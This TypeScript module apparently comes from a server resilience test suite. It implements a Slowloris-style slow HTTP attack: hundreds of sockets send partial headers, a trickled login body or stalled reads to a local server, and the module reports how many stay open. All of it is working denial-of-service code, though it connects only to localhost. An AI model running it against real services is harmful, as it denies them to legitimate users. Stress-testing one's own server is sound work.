import { connect, type Socket } from 'node:net';
import { once } from 'node:events';
import { setTimeout as pause } from 'node:timers/promises';
import type { Damage, Target } from './target';

const CLIENTS = 300;
const COMING = 30; // in a second
const SECONDS = 40;

/** Ways of being slow: in the headers, in the body, in reading the response, in sending nothing at all. */
const WAYS: ((socket: Socket, host: string) => void)[] = [
  (socket, host) => socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n`),
  (socket, host) =>
    socket.write(
      `POST /user-login HTTP/1.1\r\nHost: ${host}\r\nSec-Fetch-Site: same-origin\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\nemail=`,
    ),
  (socket, host) => {
    socket.pause();
    socket.write(`GET /api/docs HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
  },
  () => undefined,
];

/** Opens hundreds of connections in the first seconds, whose clients send one character a second. */
export async function dawdle({ url }: Target): Promise<Damage> {
  const { port, host } = new URL(url);
  const sockets: Socket[] = [];
  for (let second = 0; second < SECONDS; second += 1) {
    for (const [at, socket] of sockets.entries()) if (at % WAYS.length < 2 && socket.writable) socket.write('a');
    const room = Math.min(COMING, CLIENTS - sockets.length);
    const come = await Promise.all(Array.from({ length: room }, () => open(Number(port))));
    for (const socket of come) if (socket) WAYS[(sockets.push(socket) - 1) % WAYS.length]?.(socket, host);
    await pause(1000);
  }
  const left = sockets.filter((socket) => !socket.destroyed && socket.writable).length;
  sockets.forEach((socket) => socket.destroy());
  return { sent: sockets.length, figures: [`siguen abiertos tras ${SECONDS} s: ${left}`], faults: [] };
}

async function open(port: number): Promise<Socket | null> {
  const socket = connect(port, '127.0.0.1');
  const failed = once(socket, 'error').then(() => null);
  socket.on('error', () => socket.destroy());
  return Promise.race([once(socket, 'connect').then(() => socket), failed]);
}
